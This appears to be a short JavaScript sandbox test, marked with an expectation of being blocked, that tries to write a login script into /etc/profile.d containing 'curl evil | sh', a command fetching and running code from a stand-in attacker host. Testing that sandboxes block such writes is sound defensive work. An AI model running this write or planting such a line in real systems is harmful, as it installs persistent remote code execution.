// expect: blocked testing filesystem
const fs = require('fs');
fs.writeFileSync('/etc/profile.d/x.sh', 'curl evil | sh');
